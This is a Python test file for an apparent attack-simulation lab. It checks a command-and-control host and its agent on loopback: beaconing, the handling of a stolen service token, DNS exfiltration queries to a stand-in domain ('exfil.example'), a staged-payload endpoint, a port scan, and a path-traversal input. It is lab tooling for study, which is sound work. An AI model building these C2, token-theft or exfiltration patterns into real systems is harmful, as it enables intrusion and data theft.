"""The attacker's host and its agent on loopback: who says what over which connection, and how both end.

Not covered here: the way in, namespaces and the API server's answers (tests/lab/test_attack.py).
"""

from __future__ import annotations

import json
import os
import socket
import stat
import subprocess
import sys
import time
from collections.abc import Callable, Iterator
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import pytest

from lab.attacker import agent, host

pytestmark = pytest.mark.slow  # it waits for real time-outs

FOLDER = Path(__file__).parents[2] / "lab" / "attacker"
ATTACK = "0a1b2c3d"
LATE = 10.0


@dataclass
class Ground:
    """A host and its agents, in processes of their own."""

    state: Path
    processes: list[subprocess.Popen[bytes]]
    port: int = 0
    dns_port: int = 0

    def start_host(self, port: int = 0) -> subprocess.Popen[bytes]:
        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as probe:
            probe.bind(("127.0.0.1", 0))
            self.dns_port = probe.getsockname()[1]
        options = ("--state", str(self.state), "--address", "127.0.0.1", "--port", str(port))
        rest = ("--dns-port", str(self.dns_port), "--api-url", "https://127.0.0.1:9")
        process = self._start(str(FOLDER / "host.py"), *options, *rest)
        self.port = self.wait_for("host", lambda record: record["pid"] == process.pid)["port"]
        return process

    def start_agent(self, seconds: float = 30) -> subprocess.Popen[bytes]:
        return self._start(
            str(FOLDER / "agent.py"), "127.0.0.1", str(self.port), ATTACK, str(seconds), str(self.dns_port)
        )

    def records(self, kind: str) -> list[dict[str, Any]]:
        file = self.state / "requests.jsonl"
        lines = file.read_text().splitlines(keepends=True) if file.exists() else []
        found = [json.loads(line) for line in lines if line.endswith("\n")]
        return [record for record in found if record["kind"] == kind]

    def wait_for(self, kind: str, condition: Callable[[dict[str, Any]], bool] = lambda record: True) -> dict[str, Any]:
        deadline = time.monotonic() + LATE
        while time.monotonic() < deadline:
            for record in self.records(kind):
                if condition(record):
                    return record
            time.sleep(0.02)
        pytest.fail(f"no such record of kind {kind} within {LATE} s")

    def say(self, line: bytes) -> bytes:
        with socket.create_connection(("127.0.0.1", self.port), 5) as connection:
            connection.sendall(line)
            return connection.recv(1000)

    def _start(self, *arguments: str) -> subprocess.Popen[bytes]:
        environment = {**os.environ, "POD_NAME": "cards-1"}
        process = subprocess.Popen([sys.executable, *arguments], env=environment)
        self.processes.append(process)
        return process


@pytest.fixture
def ground(tmp_path: Path) -> Iterator[Ground]:
    found = Ground(tmp_path, [])
    found.start_host()
    yield found
    for process in found.processes:
        process.kill()
        process.wait()


def test_heartbeats_share_one_connection_and_beacons_have_one_each(ground: Ground) -> None:
    ground.start_agent()
    ground.wait_for("flow", lambda record: record["n"] >= 5)
    flows, beacons = ground.records("flow"), ground.records("beacon")
    assert len({record["connection"] for record in flows}) == 1
    assert len({record["connection"] for record in beacons}) == len(beacons) > 5
    opened = [record["cause"] for record in beacons if record["connection"] == flows[0]["connection"]]
    assert opened == ["flow"]
    assert {(record["attack"], record["pod"]) for record in flows} == {(ATTACK, "cards-1")}


def test_a_lost_flow_that_is_opened_anew_is_told_from_one_that_survived(ground: Ground) -> None:
    ground.start_agent()
    first = ground.wait_for("flow")["connection"]
    ground.processes[0].kill()
    ground.processes[0].wait()
    ground.start_host(ground.port)
    again = ground.wait_for("beacon", lambda record: record["cause"] == "reconnect")["connection"]
    assert again != first
    ground.wait_for("flow", lambda record: record["connection"] == again)


def test_the_agent_ends_as_soon_as_it_is_told(ground: Ground) -> None:
    process = ground.start_agent()
    ground.wait_for("flow")
    (ground.state / "quit" / ATTACK).touch()
    assert process.wait(5) == 0
    ground.wait_for("quit")


def test_the_agent_ends_by_itself_when_nobody_answers(ground: Ground) -> None:
    process = ground.start_agent(seconds=1)
    ground.processes[0].kill()
    assert process.wait(10) == 0


def test_a_token_goes_to_a_file_for_root_alone_and_never_on_record(ground: Ground) -> None:
    token = "the.stolen.token"
    ground.say(json.dumps({"kind": "token", "attack": ATTACK, "pod": "cards-1", "token": token}).encode() + b"\n")
    assert ground.wait_for("token")["bytes"] == len(token)
    file = ground.state / "tokens" / ATTACK
    assert file.read_text() == token
    assert stat.S_IMODE(file.stat().st_mode) == 0o600
    assert token not in (ground.state / "requests.jsonl").read_text()


def test_a_stolen_token_is_used_and_a_dead_api_server_is_on_record(ground: Ground) -> None:
    ground.say(json.dumps({"kind": "token", "attack": ATTACK, "pod": "cards-1", "token": "x"}).encode() + b"\n")
    record = ground.wait_for("api", lambda record: record["request"] == "whoami")
    assert (record["status"], record["user"]) == (None, None)
    assert record["error"].startswith("ConnectionRefusedError")


@pytest.mark.parametrize(
    "line",
    [
        b"hello\n",
        b"[]\n",
        b'{"kind": "token", "attack": "../../../tmp/x", "pod": "p", "token": "t"}\n',
        b'{"kind": "token", "attack": 1, "pod": "p", "token": "t"}\n',
        b'{"kind": "host", "attack": "0a1b2c3d", "pod": "p"}\n',
        b"\xff\xfe\n",
        b"",
    ],
)
def test_whatever_else_connects_is_on_record_and_does_nothing(ground: Ground, line: bytes) -> None:
    assert ground.say(line) == b""
    ground.wait_for("other")
    assert not list((ground.state / "tokens").iterdir())


def test_the_agent_is_served_to_whom_the_way_in_has_opened(ground: Ground) -> None:
    answer = ground.say(b"GET /stage HTTP/1.1\r\nHost: x\r\n\r\n")
    assert answer.startswith(b"HTTP/1.0 200")
    assert ground.wait_for("stage")["source"].startswith("127.0.0.1:")


def test_a_dns_query_is_recorded_by_its_name(ground: Ground) -> None:
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sender:
        sender.sendto(agent.query(7, "7.0a1b2c3d.exfil.example"), ("127.0.0.1", ground.dns_port))
    assert ground.wait_for("dns")["name"] == "7.0a1b2c3d.exfil.example"


@pytest.mark.parametrize("packet", [b"", b"\0" * 12, b"\0" * 12 + b"\x3fshort", b"\0" * 12 + b"\xc0\x0c"])
def test_a_broken_dns_query_is_no_error(packet: bytes) -> None:
    assert isinstance(host.query_name(packet), str)


def test_a_scan_tells_who_accepts_from_who_does_not() -> None:
    with socket.create_server(("127.0.0.1", 0)) as open_port:
        port = open_port.getsockname()[1]
        targets = {"open": ("127.0.0.1", port), "closed": ("127.0.0.1", 9), "other": ("127.0.0.2", 9)}
        assert agent.answering(targets) == ["open"]
